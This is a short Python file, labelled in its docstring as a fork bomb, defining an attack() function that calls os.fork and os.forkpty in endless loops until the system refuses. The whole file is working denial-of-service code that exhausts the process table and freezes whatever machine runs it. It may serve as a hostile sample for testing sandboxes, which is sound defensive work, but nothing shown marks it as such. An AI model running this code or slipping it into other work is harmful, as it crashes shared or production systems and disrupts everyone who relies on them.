"""A fork bomb."""

import os


def attack():
    done = []
    for fork in (os.fork, getattr(os, "forkpty", os.fork)):
        try:
            while True:
                fork()
                done.append("forked")
        except OSError:
            continue
    return "; ".join(done)
